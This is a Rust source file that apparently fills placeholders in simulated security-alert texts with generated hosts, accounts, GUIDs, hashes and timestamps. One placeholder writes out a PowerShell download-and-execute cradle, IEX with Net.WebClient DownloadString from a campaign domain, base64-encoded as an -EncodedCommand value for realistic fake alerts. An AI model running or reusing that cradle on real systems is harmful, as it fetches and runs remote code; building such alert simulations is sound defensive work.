//! The placeholders of a story's texts, filled from the campaign's cast.
//!
//! What has a name after a colon is the same wherever the campaign says the same name:
//! `<guid:app>` is one application in all its alerts.

use base64::Engine;
use rand::{RngCore, SeedableRng, rngs::StdRng};

use super::{Scene, hash};
use crate::world::{guid, hex};
use alertdeck_model::Timestamp;

impl Scene<'_> {
    /// Fills the placeholders of a story's text; brackets around anything else stay.
    pub(super) fn fill(&mut self, text: &str) -> String {
        let mut out = String::with_capacity(text.len());
        let mut rest = text;
        while let Some(open) = rest.find('<') {
            out.push_str(&rest[..open]);
            rest = &rest[open..];
            let value = rest.find('>').and_then(|close| Some((self.value(&rest[1..close])?, close + 1)));
            let (value, length) = value.unwrap_or_else(|| ("<".into(), 1));
            out.push_str(&value);
            rest = &rest[length..];
        }
        out.push_str(rest);
        out
    }

    fn value(&mut self, placeholder: &str) -> Option<String> {
        let (name, argument) = placeholder.split_once(':').unwrap_or((placeholder, ""));
        let property = |name: &str| self.device().properties[name].as_str().unwrap_or_default().to_owned();
        let own = || StdRng::seed_from_u64(self.cast.hash(argument));
        Some(match (name, argument) {
            ("host", "") => self.device().host.clone(),
            ("mde", "") => self.device().mde_id.clone(),
            ("inside", "") => property("lastIpAddress"),
            ("outside", "") => property("lastExternalIpAddress"),
            ("account", "") => self.person.account.clone(),
            ("upn", "") => self.person.principal(),
            ("display", "") => self.person.display.clone(),
            ("organization", "") => self.person.identity["tenantId"].as_str()?.to_owned(),
            ("domain", "") => self.cast.domain.clone(),
            ("ip", "") => self.cast.address.clone(),
            ("peer", "") => self.cast.peer.clone(),
            ("n", "") => self.cast.number.to_string(),
            ("i", "") => self.round.to_string(),
            ("guid", "") => guid(self.rng),
            ("b64", "") => encoded_command(&format!(
                "IEX (New-Object Net.WebClient).DownloadString('http://{}/stage/{}')",
                self.cast.domain, self.cast.number
            )),
            ("guid", _) => guid(&mut own()),
            // What belongs to the tenant is the same in all its campaigns.
            ("tenant", _) => guid(&mut StdRng::seed_from_u64(hash(0, argument))),
            ("sha256", _) => hex(&mut own(), 32),
            ("hex", _) => hex(&mut own(), 6),
            ("mac", _) => {
                let bytes = hex(&mut own(), 3);
                format!("00:1b:1b:{}:{}:{}", &bytes[..2], &bytes[2..4], &bytes[4..])
            }
            ("at", _) => self.moment(argument)?,
            ("base64", length) => {
                let mut bytes = vec![0; length.parse::<usize>().ok()? / 4 * 3];
                own().fill_bytes(&mut bytes);
                base64::engine::general_purpose::STANDARD.encode(bytes)
            }
            _ => return None,
        })
    }

    /// Writes the moment so many seconds after the story began, with as many digits of the second
    /// as are given: products differ in that (API.md 3).
    fn moment(&self, seconds: &str) -> Option<String> {
        let (whole, fraction) = seconds.split_once('.').unwrap_or((seconds, ""));
        let at = Timestamp::from_seconds(self.began.seconds().checked_add(whole.parse().ok()?)?);
        let at = at.to_string();
        let at = at.trim_end_matches('Z').split('.').next()?;
        Some(if fraction.is_empty() { format!("{at}Z") } else { format!("{at}.{fraction}Z") })
    }
}

/// Encodes a script as PowerShell's `-EncodedCommand` wants it: base64 over UTF-16.
fn encoded_command(script: &str) -> String {
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}
